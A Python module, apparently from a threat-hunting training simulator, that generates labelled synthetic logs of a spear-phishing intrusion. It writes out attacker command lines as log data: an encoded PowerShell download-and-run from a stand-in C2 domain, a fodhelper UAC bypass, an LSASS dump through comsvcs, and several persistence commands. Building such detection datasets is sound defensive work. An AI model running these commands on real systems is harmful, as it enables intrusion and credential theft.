"""The intrusion: spear-phish -> implant -> persistence -> privilege escalation and credential
theft -> lateral movement -> staging -> exfiltration, consistent across mail, endpoint and
network, with every malicious record noted for the truth file.
"""

from __future__ import annotations

import base64

from spearhunt.simulate import documents
from spearhunt.simulate.clock import HOUR, MINUTE, US
from spearhunt.simulate.config import Variant
from spearhunt.simulate.context import HostState, Session, Sim
from spearhunt.simulate.endpoint import Account, Proc, user_account
from spearhunt.simulate.images import IMAGES, Image, make_image, sysmon_hashes
from spearhunt.simulate.lateral import LateralPlanner
from spearhunt.simulate.plan import (
    Campaign,
    Lure,
    PlanWriter,
)
from spearhunt.simulate.world import AD_DOMAIN, NETBIOS, Host, User

C2_DOMAINS = (
    "officeupdate-cdn.example.net",
    "telemetry-sync.example.org",
    "cdn-docshare.example.com",
    "msft-edge-static.example.net",
    "partner-portal-auth.example.org",
)
PARTNERS = (
    ("Northwind Aerospace", "northwind-aero.example"),
    ("Fabrikam Defense Systems", "fabrikam-defense.example"),
    ("Tailspin Avionics", "tailspin-avionics.example"),
)
LURES = {
    "macro": (
        "RFQ_{prog}_Subcontract_Terms.docm",
        "Request for quotation {prog}: subcontract terms",
    ),
    "template": (
        "Contract_Amendment_{n:02d}_{prog}.docx",
        "Contract amendment {n} for {prog} - signature needed",
    ),
    "iso": ("Teaming_Agreement_{prog}.iso", "{prog} teaming agreement and NDA package"),
}
PROGRAMS = ("HX-40", "Sentinel-R")
BEACON_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36"
)


class Planner(PlanWriter):
    """Writes the campaign's events into the per-host buffers, day by day of the plan."""

    # ---- plan --------------------------------------------------------------------------
    def plan(self) -> Campaign:
        """Choose the actors and the timeline, then write every stage."""
        sim, rng, cfg = self.sim, self.rng, self.sim.cfg
        days = cfg.days
        d_phish = 0 if days <= 6 else 1
        d_priv = d_phish + 1
        d_lat = min(d_priv + 1, days - 3) if days > 5 else d_priv
        d_stage = max(d_lat + 1, days - 4)
        nights = 1 if days <= 6 else 2

        candidates = [
            h for h in sim.workstations if h.owner and not sim.world.user(h.owner).admin_sam
        ]
        rng.shuffle(candidates)
        victim_host = next(
            (h for h in candidates if sim.session(h, d_phish) is not None), candidates[0]
        )
        victim = sim.world.user(victim_host.owner or "")
        admin = sim.world.admins[int(rng.random() * len(sim.world.admins))]
        staging = sim.file_servers[0]
        partner_name, partner_domain = PARTNERS[int(rng.random() * len(PARTNERS))]
        c2 = C2_DOMAINS[int(rng.random() * len(C2_DOMAINS))]
        c2_ip = sim.ext.ip(c2)
        lure = self._lure(victim, partner_name, partner_domain, d_phish)
        self.c = Campaign(self.variant, victim, victim_host, admin, lure, c2, c2_ip, staging)

        session = sim.session(victim_host, d_phish)
        implant, t = self.initial_access(victim_host, session, lure)
        self.beacon(victim_host, implant, t + self.secs(5, 40))
        t_disc = t + self.secs(20 * 60, 70 * 60)
        self.discovery(victim_host, implant, t_disc)
        if self.variant.persistence in ("runkey", "schtask"):
            self.persistence(victim_host, implant, t + self.secs(120, 600), elevated=False)
        # IT support logs on to the victim's machine: the admin's credentials land in LSASS.
        self.helpdesk_logon(victim_host, admin, t_disc + self.secs(40 * 60, 150 * 60))

        t_priv = self._working_time(victim_host, d_priv, 9.5, 11.5)
        high = self.privilege_escalation(victim_host, implant, t_priv)
        t_cred = t_priv + self.secs(300, 1500)
        self.credential_access(victim_host, high, t_cred)
        if self.variant.persistence in ("service", "wmisub"):
            self.persistence(victim_host, high, t_cred + self.secs(600, 1800), elevated=True)

        lat = LateralPlanner(self, high)
        t_lat = max(
            self._working_time(victim_host, d_lat, 13.5, 15.5), t_cred + self.secs(3600, 7200)
        )
        lat.move_all(t_lat)
        t_stage = self.sim.clock.day_start(d_stage) + int((18.5 + rng.random() * 2) * HOUR)
        lat.stage(t_stage)
        for night in range(nights):
            day = min(d_stage + 1 + night, days - 1)
            lat.exfiltrate(
                self.sim.clock.day_start(day) + int((0.6 + rng.random()) * HOUR),
                part=night,
                parts=nights,
            )
        lat.cleanup()
        return self.c

    def _working_time(self, host: Host, day: int, lo: float, hi: float) -> int:
        s = self.sim.session(host, day)
        base = self.sim.clock.day_start(day) + int((lo + self.rng.random() * (hi - lo)) * HOUR)
        if s is not None:
            return min(max(base, s.start + 20 * MINUTE), s.end - 2 * HOUR)
        return base

    def _lure(self, victim: User, partner: str, domain: str, day: int) -> Lure:
        rng = self.rng
        prog = PROGRAMS[int(rng.random() * len(PROGRAMS))]
        n = 2 + int(rng.random() * 9)
        name_t, subject_t = LURES[self.variant.access]
        filename = name_t.format(prog=prog, n=n)
        subject = subject_t.format(prog=prog, n=n)
        body = [
            f"{partner} - {subject}",
            f"Dear {victim.given},",
            "Please review the attached document before our call on Thursday.",
            "This package is provided for training purposes by the spearhunt simulator; "
            "it contains no working code.",
        ]
        if self.variant.access == "macro":
            data = documents.macro_docm(body)
            ctype = "application/vnd.ms-word.document.macroEnabled.12"
        elif self.variant.access == "template":
            data = documents.remote_template_docx(
                body, f"https://templates.example.com/{prog.lower()}/contract-{n:02d}.dotm"
            )
            ctype = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
        else:
            link = documents.lnk(
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "-NoProfile -Command \"Write-Output 'spearhunt simulation: inert lure'\"",
                icon="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            )
            data = documents.iso9660(
                [
                    (f"{prog.replace('-', '')}_NDA.LNK", link),
                    ("README.TXT", b"Teaming agreement package.\r\n"),
                ],
                volume_id="TEAMING",
            )
            ctype = "application/x-iso9660-image"
        lookalike = domain.replace(".example", "-contracts.example")
        first = rng.choice(("anna", "mark", "laura", "peter", "olivia"))
        last = rng.choice(("hughes", "baxter", "lindqvist", "moreau", "ito"))
        session = self.sim.session(
            self.sim.world.workstation_of(victim) or self.sim.workstations[0], day
        )
        sent = (
            (session.start + self.secs(50 * 60, 150 * 60))
            if session
            else self.sim.clock.day_start(day) + 10 * HOUR
        )
        return Lure(
            filename=filename,
            data=data,
            content_type=ctype,
            subject=subject,
            sender_name=f"{first.title()} {last.title()}",
            sender=f"{first}.{last}@{lookalike}",
            reply_to=f"{first}.{last}.{prog.lower()}@mail-relay.example.net",
            partner=domain,
            message_id=f"<{rng.getrandbits(64):016x}.{rng.getrandbits(24):06x}@{lookalike}>",
            sent=sent,
        )

    # ---- stages on the victim's workstation --------------------------------------------
    def initial_access(self, host: Host, session: Session | None, lure: Lure) -> tuple[Proc, int]:
        """Outlook saves the attachment, the user opens it, the implant starts."""
        assert self.c is not None
        sim, hs = self.sim, self.sim.hosts[host.name]
        log = hs.log
        user = self.c.victim
        if session is None:  # never happens with the victim choice, but stay total
            session = sim.session(host, self.sim.clock.day_of(lure.sent))
        assert session is not None
        acct, home = session.account, f"C:\\Users\\{user.sam}\\"
        folder = f"{self.rng.getrandbits(32):08X}"
        cache = f"{home}AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{folder}\\"
        path = cache + lure.filename
        t = lure.sent + self.secs(5 * 60, 40 * 60)
        hashes = f"SHA256={lure.sha256.upper()},MD5={lure.md5.upper()}"
        with self.step(hs, "initial_access", "T1566.001", user.sam, "attachment saved by Outlook"):
            log.file_create(t, session.outlook, path)
            log.stream_hash(
                t + 4_000,
                session.outlook,
                path,
                hashes,
                "[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=about:internet\r\n",
            )
        self.c.extra["attachment_path"] = path
        t += self.secs(20, 240)
        access = self.variant.access
        if access in ("macro", "template"):
            with self.step(hs, "execution", "T1204.002", user.sam, "user opens the document"):
                word, _ = log.process(
                    t,
                    IMAGES["winword"],
                    f'"{IMAGES["winword"].path}" /n "{path}" /o ""',
                    session.outlook,
                    acct,
                    cwd=f"{home}Documents\\",
                )
            t += self.secs(3, 12)
            if access == "macro":
                return self._macro(hs, word, acct, home, t), t
            return self._template(hs, word, acct, home, t), t
        return self._iso(hs, session, acct, home, lure, path, t), t

    def _implant_image(self, path: str, kind: str) -> Image:
        assert self.c is not None
        data = f"spearhunt inert implant {self.sim.cfg.seed} {path}".encode()
        img = make_image(path, kind, "", "", "", "", content=data)
        self.c.implant_sha256 = img.sha256
        self.c.extra["implant_path"] = path
        return img

    def _macro(self, hs: HostState, word: Proc, acct: Account, home: str, t: int) -> Proc:
        log = hs.log
        user = self.c.victim.sam if self.c else ""
        dll = f"{home}AppData\\Roaming\\Microsoft\\Office\\Addins\\msosync.dll"
        img = self._implant_image(dll, "msosync.dll")
        with self.step(hs, "execution", "T1204.002", user, "macro writes the implant DLL"):
            log.file_create(t, word, dll)
        t += self.secs(1, 4)
        launch = f'"C:\\Windows\\System32\\rundll32.exe" "{dll}",DllInstall'
        with self.step(hs, "execution", "T1218.011", user, "macro starts rundll32 on the DLL"):
            implant, _ = log.process(
                t, IMAGES["rundll32"], launch, word, acct, cwd=f"{home}Documents\\"
            )
            log.image_load(t + 60_000, implant, dll, img.hashes)
        self.c.extra["launch"] = launch  # type: ignore[union-attr]
        return implant

    def _template(self, hs: HostState, word: Proc, acct: Account, home: str, t: int) -> Proc:
        assert self.c is not None
        sim, log, host = self.sim, hs.log, hs.host
        user = self.c.victim.sam
        tmpl_host = "templates.example.com"
        tmpl_ip = sim.ext.ip(tmpl_host)
        sport = sim.port()
        with self.step(hs, "execution", "T1221", user, "Word fetches the remote template"):
            log.dns(t, word, tmpl_host, f"::ffff:{tmpl_ip};")
            log.network(t + 80_000, word, host.ip, sport, tmpl_ip, 443, tmpl_host)
            log.file_create(
                t + 900_000,
                word,
                f"{home}AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Word\\"
                f"contract-{self.rng.getrandbits(16):04x}.dotm",
            )
        if (net := sim.net) is not None:
            uid_d = net.dns(t, host.ip, sim.dc_ip, tmpl_host, [tmpl_ip], ttl=60)
            uid_t = net.tls(
                t + 80_000,
                host.ip,
                tmpl_ip,
                tmpl_host,
                orig_bytes=1_400,
                resp_bytes=38_000 + net.rng.getrandbits(12),
                duration=0.6,
                sport=sport,
            )
            self.net(
                "execution",
                "T1221",
                host,
                [("dns", uid_d, t), ("conn", uid_t, t + 80_000), ("ssl", uid_t, t + 80_000)],
                "template download",
            )
        t += self.secs(2, 6)
        exe = f"{home}AppData\\Local\\Microsoft\\Teams\\Update\\TeamsUpdater.exe"
        img = self._implant_image(exe, "TeamsUpdater.exe")
        script = (
            f'$p="$env:LOCALAPPDATA\\Microsoft\\Teams\\Update\\TeamsUpdater.exe";'
            f"(New-Object Net.WebClient).DownloadFile('https://{self.c.c2_domain}/cdn/"
            f"upd.bin',$p);Start-Process $p"
        )
        enc = base64.b64encode(script.encode("utf-16-le")).decode()
        with self.step(hs, "execution", "T1059.001", user, "template macro runs PowerShell"):
            ps, _ = log.process(
                t,
                IMAGES["powershell"],
                f"powershell.exe -NoP -NonI -W Hidden -Enc {enc}",
                word,
                acct,
                cwd=f"{home}Documents\\",
            )
            log.script_block(t + 300_000, script)
            sport = sim.port()
            log.dns(t + 500_000, ps, self.c.c2_domain, f"::ffff:{self.c.c2_ip};")
            log.network(t + 600_000, ps, host.ip, sport, self.c.c2_ip, 443, self.c.c2_domain)
            log.file_create(t + 3 * US, ps, exe)
        if net is not None:
            uid_d = net.dns(t + 500_000, host.ip, sim.dc_ip, self.c.c2_domain, [self.c.c2_ip])
            uid_t = net.tls(
                t + 600_000,
                host.ip,
                self.c.c2_ip,
                self.c.c2_domain,
                orig_bytes=2_100,
                resp_bytes=412_000 + net.rng.getrandbits(14),
                duration=2.1,
                sport=sport,
            )
            self.net(
                "command_and_control",
                "T1105",
                host,
                [
                    ("dns", uid_d, t + 500_000),
                    ("conn", uid_t, t + 600_000),
                    ("ssl", uid_t, t + 600_000),
                ],
                "stage-2 download",
            )
        t += self.secs(4, 9)
        self.c.extra["launch"] = f'"{exe}"'
        with self.step(hs, "execution", "T1204.002", user, "implant started"):
            implant, _ = log.process(t, img, f'"{exe}"', ps, acct, cwd=f"{home}Documents\\")
        return implant

    def _iso(
        self,
        hs: HostState,
        session: Session,
        acct: Account,
        home: str,
        lure: Lure,
        path: str,
        t: int,
    ) -> Proc:
        assert self.c is not None
        log = hs.log
        user = self.c.victim.sam
        with self.step(hs, "execution", "T1553.005", user, "ISO mounted from the Outlook cache"):
            log.file_create(
                t,
                session.explorer,
                f"{home}AppData\\Roaming\\Microsoft\\Windows\\Recent\\{lure.filename}.lnk",
            )
        t += self.secs(4, 30)
        dll = f"{home}AppData\\Roaming\\Microsoft\\Crypto\\ctxupd.dll"
        img = self._implant_image(dll, "ctxupd.dll")
        cmd = (
            '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden '
            '-c "Copy-Item E:\\files\\ctxupd.dat $env:APPDATA\\Microsoft\\Crypto\\ctxupd.dll;'
            'rundll32.exe $env:APPDATA\\Microsoft\\Crypto\\ctxupd.dll,Start"'
        )
        with self.step(hs, "execution", "T1204.002", user, "LNK in the ISO runs PowerShell"):
            ps, _ = log.process(t, IMAGES["powershell"], cmd, session.explorer, acct, cwd="E:\\")
            log.file_create(t + 700_000, ps, dll)
        t += self.secs(1, 3)
        launch = f'"C:\\Windows\\System32\\rundll32.exe" {dll},Start'
        self.c.extra["launch"] = launch
        with self.step(hs, "execution", "T1218.011", user, "rundll32 runs the implant DLL"):
            implant, _ = log.process(t, IMAGES["rundll32"], launch, ps, acct, cwd="E:\\")
            log.image_load(t + 50_000, implant, dll, img.hashes)
        return implant

    def beacon(self, host: Host, implant: Proc, start: int) -> None:
        """Jittered periodic HTTPS check-ins to the C2 domain until the end of the logs."""
        assert self.c is not None
        sim, rng, hs = self.sim, self.rng, self.sim.hosts[host.name]
        c = self.c
        interval = rng.choice((600, 900, 1200))
        jitter = 0.15 + rng.random() * 0.1
        c.beacon_interval = interval
        end = sim.clock.day_start(sim.cfg.days) - 10 * MINUTE
        t = start
        records: list[tuple[str, str | None, int]] = []
        n = 0
        net = sim.net
        with self.step(hs, "command_and_control", "T1071.001", c.victim.sam, "beacon"):
            while t < end:
                if n % 8 == 0:  # the implant's own resolver cache expires: resolve again
                    hs.log.dns(t, implant, c.c2_domain, f"::ffff:{c.c2_ip};")
                    if net is not None:
                        records.append(
                            (
                                "dns",
                                net.dns(t, host.ip, sim.dc_ip, c.c2_domain, [c.c2_ip], ttl=300),
                                t,
                            )
                        )
                ts = t + 30_000
                sport = sim.port()
                hs.log.network(ts, implant, host.ip, sport, c.c2_ip, 443, c.c2_domain)
                if net is not None:
                    bits = net.rng.getrandbits
                    uid = net.tls(
                        ts,
                        host.ip,
                        c.c2_ip,
                        c.c2_domain,
                        orig_bytes=480 + bits(8),
                        resp_bytes=240 + (bits(12) if n % 13 == 0 else bits(6)),
                        duration=0.25 + net.rng.random() * 0.5,
                        sport=sport,
                    )
                    records.append(("conn", uid, ts))
                    records.append(("ssl", uid, ts))
                c.beacons.append(ts)
                n += 1
                t += int(interval * (1 - jitter + 2 * jitter * rng.random()) * US)
        if net is not None:
            self.net("command_and_control", "T1071.001", host, records, "beacon")

    def discovery(self, host: Host, implant: Proc, t: int) -> None:
        """Hands-on-keyboard reconnaissance through the implant."""
        assert self.c is not None
        hs = self.sim.hosts[host.name]
        log, acct = hs.log, implant.account
        fs = self.c.staging_host.name
        cmds = (
            ("whoami", "whoami /all", "T1033"),
            ("net", 'net group "Domain Admins" /domain', "T1069.002"),
            ("nltest", f"nltest /dclist:{AD_DOMAIN}", "T1018"),
            ("net", f"net view \\\\{fs} /all", "T1135"),
        )
        with self.step(hs, "discovery", "T1059.003", self.c.victim.sam, "cmd from the implant"):
            shell, _ = log.process(
                t,
                IMAGES["cmd"],
                "C:\\Windows\\system32\\cmd.exe",
                implant,
                acct,
                cwd=f"C:\\Users\\{self.c.victim.sam}\\",
            )
        for key, cmd, tech in cmds:
            t += self.secs(15, 120)
            with self.step(hs, "discovery", tech, self.c.victim.sam, cmd):
                log.process(
                    t, IMAGES[key], cmd, shell, acct, cwd=f"C:\\Users\\{self.c.victim.sam}\\"
                )

    def helpdesk_logon(self, host: Host, admin: User, t: int) -> None:
        """A benign RDP by IT support onto the victim's workstation (not malicious)."""
        sim = self.sim
        hs = sim.hosts[host.name]
        src = sim.world.workstation_of(admin) or sim.world.dc
        acct = user_account(admin, sim.logon_id(self.rng), sim.logon_guid(self.rng), admin=True)
        hs.log.rdp_authenticated(t, acct.name, NETBIOS, src.ip)
        sport = sim.port()
        hs.log.logon(t + 2 * US, acct, 10, src.ip, src.name.upper(), elevated=True, port=sport)
        if sim.net is not None:
            sim.net.conn(
                t,
                src.ip,
                host.ip,
                3389,
                service="ssl",
                duration=1_400.0,
                orig_bytes=1_900_000,
                resp_bytes=24_000_000,
                sport=sport,
            )
        self.c.extra["helpdesk_logon"] = t  # type: ignore[union-attr]

    def persistence(self, host: Host, actor: Proc, t: int, *, elevated: bool) -> None:
        """Persistence by variant: Run key, scheduled task, service or WMI subscription."""
        assert self.c is not None
        hs, c = self.sim.hosts[host.name], self.c
        log, acct, user = hs.log, actor.account, c.victim
        launch = c.extra["launch"]
        kind = self.variant.persistence
        cwd = f"C:\\Users\\{user.sam}\\"
        if kind == "runkey":
            value = "OneDriveSync"
            with self.step(hs, "persistence", "T1547.001", user.sam, "Run key"):
                reg, _ = log.process(
                    t,
                    IMAGES["reg"],
                    f"reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {value} "
                    f'/t REG_SZ /d "{launch.replace(chr(34), chr(92) + chr(34))}" /f',
                    actor,
                    acct,
                    cwd=cwd,
                )
                log.registry(
                    t + 40_000,
                    reg,
                    f"HKU\\{user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{value}",
                    launch,
                )
        elif kind == "schtask":
            task = "\\Microsoft\\Windows\\OneDrive\\OneDrive Reporting Sync"
            cmd, _, args = launch.partition(" ")
            with self.step(hs, "persistence", "T1053.005", user.sam, "scheduled task"):
                log.process(
                    t,
                    IMAGES["schtasks"],
                    f'schtasks.exe /create /tn "{task}" /tr "{launch.replace(chr(34), chr(39))}" '
                    "/sc daily /st 09:05 /f",
                    actor,
                    acct,
                    cwd=cwd,
                )
                log.task_created(
                    t + 200_000,
                    acct,
                    task,
                    cmd.strip('"'),
                    args,
                    "<CalendarTrigger><StartBoundary>2026-01-01T09:05:00</StartBoundary>"
                    "<ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay>"
                    "</CalendarTrigger>",
                )
                log.file_create(t + 150_000, hs.schedule, f"C:\\Windows\\System32\\Tasks{task}")
        elif kind == "service":
            exe = "C:\\ProgramData\\WinSync\\wsyncsvc.exe"
            name = "WinSyncSvc"
            with self.step(hs, "persistence", "T1543.003", user.sam, "service"):
                log.file_create(t, actor, exe)
                log.process(
                    t + 2 * US,
                    IMAGES["sc"],
                    f'sc.exe create {name} binPath= "{exe}" start= auto '
                    'DisplayName= "Windows Sync Service"',
                    actor,
                    acct,
                    cwd=cwd,
                    integrity="High",
                )
                log.registry(
                    t + 2 * US + 90_000,
                    hs.services,
                    f"HKLM\\System\\CurrentControlSet\\Services\\{name}\\ImagePath",
                    exe,
                )
                log.service_installed(
                    t + 2 * US + 120_000,
                    name,
                    exe,
                    start_type="auto start",
                    service_type="user mode service",
                )
        else:
            fname, cname = "SyncFilter", "SyncConsumer"
            query = (
                "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance "
                "ISA 'Win32_PerfFormattedData_PerfOS_System' AND "
                "TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325"
            )
            script = (
                f"$f=Set-WmiInstance -Namespace root\\subscription -Class __EventFilter "
                f"-Arguments @{{Name='{fname}';EventNamespace='root\\cimv2';QueryLanguage='WQL';"
                f'Query="{query}"}};$c=Set-WmiInstance -Namespace root\\subscription -Class '
                f"CommandLineEventConsumer -Arguments @{{Name='{cname}';"
                f"CommandLineTemplate='{launch}'}};Set-WmiInstance -Namespace root\\subscription "
                "-Class __FilterToConsumerBinding -Arguments @{Filter=$f;Consumer=$c}"
            )
            sub = "\\\\.\\ROOT\\subscription:"
            with self.step(hs, "persistence", "T1546.003", user.sam, "WMI event subscription"):
                log.process(
                    t,
                    IMAGES["powershell"],
                    f'powershell.exe -NoP -C "{script}"',
                    actor,
                    acct,
                    cwd=cwd,
                    integrity="High",
                )
                log.script_block(t + 300_000, script)
                log.wmi(
                    t + 1 * US,
                    19,
                    acct,
                    fname,
                    EventNamespace='"root\\\\cimv2"',
                    Query=f'"{query}"',
                )
                log.wmi(
                    t + 1 * US + 20_000,
                    20,
                    acct,
                    cname,
                    Type="Command Line",
                    Destination=f'"{launch}"',
                )
                log.wmi(
                    t + 1 * US + 40_000,
                    21,
                    acct,
                    "",
                    Consumer=f'{sub}CommandLineEventConsumer.Name="{cname}"',
                    Filter=f'{sub}__EventFilter.Name="{fname}"',
                )
        c.extra["persistence"] = kind

    def privilege_escalation(self, host: Host, implant: Proc, t: int) -> Proc:
        """UAC bypass through fodhelper's ms-settings handler: a high-integrity implant."""
        assert self.c is not None
        hs, c = self.sim.hosts[host.name], self.c
        log, acct, user = hs.log, implant.account, c.victim
        launch = c.extra["launch"]
        key = f"HKU\\{user.sid}_Classes\\ms-settings\\shell\\open\\command"
        cwd = f"C:\\Users\\{user.sam}\\"
        with self.step(hs, "privilege_escalation", "T1548.002", user.sam, "fodhelper UAC bypass"):
            shell, _ = log.process(
                t,
                IMAGES["cmd"],
                "C:\\Windows\\system32\\cmd.exe /c "
                "reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command "
                f'/d "{launch.replace(chr(34), "")}" /f & reg add '
                "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command "
                "/v DelegateExecute /f & fodhelper.exe",
                implant,
                acct,
                cwd=cwd,
            )
            r1, _ = log.process(
                t + 200_000,
                IMAGES["reg"],
                "reg  add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command "
                f'/d "{launch.replace(chr(34), "")}" /f',
                shell,
                acct,
                cwd=cwd,
            )
            log.registry(t + 260_000, r1, f"{key}\\(Default)", launch.replace('"', ""))
            r2, _ = log.process(
                t + 500_000,
                IMAGES["reg"],
                "reg  add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command "
                "/v DelegateExecute /f",
                shell,
                acct,
                cwd=cwd,
            )
            log.registry(t + 560_000, r2, f"{key}\\DelegateExecute", "(Empty)")
            fod, _ = log.process(
                t + 900_000,
                IMAGES["fodhelper"],
                "fodhelper.exe",
                shell,
                acct,
                cwd=cwd,
                integrity="High",
            )
            launch_img = (
                IMAGES["rundll32"]
                if "rundll32" in launch
                else make_image(
                    c.extra["implant_path"],
                    "TeamsUpdater.exe",
                    content=f"spearhunt inert implant {self.sim.cfg.seed} "
                    f"{c.extra['implant_path']}".encode(),
                )
            )
            high, _ = log.process(
                t + 1_400_000,
                launch_img,
                launch.replace('"', "") if "rundll32" in launch else launch,
                fod,
                acct,
                cwd="C:\\Windows\\system32\\",
                integrity="High",
            )
            log.registry(t + 5 * US, high, key, "", event_type="DeleteKey")
        return high

    def credential_access(self, host: Host, high: Proc, t: int) -> None:
        """Dump LSASS: comsvcs MiniDump through rundll32, or direct access from the implant."""
        assert self.c is not None
        hs, c = self.sim.hosts[host.name], self.c
        log = hs.log
        dump = "C:\\ProgramData\\Intel\\Logs\\wdmp.bin"
        with self.step(hs, "credential_access", "T1003.001", c.victim.sam, "LSASS memory"):
            in_rundll32 = high.image.path.lower().endswith("\\rundll32.exe")
            if in_rundll32 or self.rng.random() < 0.5:
                md, _ = log.process(
                    t,
                    IMAGES["rundll32"],
                    f'"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, '
                    f"MiniDump {hs.lsass.pid} {dump} full",
                    high,
                    high.account,
                    cwd="C:\\Windows\\system32\\",
                    integrity="High",
                )
                log.process_access(
                    t + 300_000,
                    md,
                    hs.lsass,
                    "0x1FFFFF",
                    "C:\\Windows\\SYSTEM32\\ntdll.dll+9f5a4|C:\\Windows\\System32\\"
                    "KERNELBASE.dll+3a4e7|C:\\Windows\\System32\\dbgcore.DLL+6fb6|"
                    "C:\\Windows\\System32\\dbgcore.DLL+7a3e|C:\\Windows\\System32\\"
                    "comsvcs.dll+3f2a1",
                )
                log.file_create(t + 900_000, md, dump)
                c.extra["credential_method"] = "comsvcs"
            else:
                for i, access in enumerate(("0x1010", "0x1438")):
                    log.process_access(
                        t + i * 400_000,
                        high,
                        hs.lsass,
                        access,
                        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\"
                        "KERNELBASE.dll+2c13e|UNKNOWN(00000000004A1B2F)",
                    )
                c.extra["credential_method"] = "direct"

    # (lateral movement, staging and exfiltration: spearhunt.simulate.lateral)


def plan_campaign(sim: Sim, variant: Variant) -> Campaign:
    """Write the campaign's events into ``sim``'s buffers and return the plan."""
    return Planner(sim, variant).plan()


def attachment_hashes(lure: Lure) -> str:
    """The Sysmon 15 Hash value of the attachment."""
    return sysmon_hashes(lure.sha256, lure.md5)
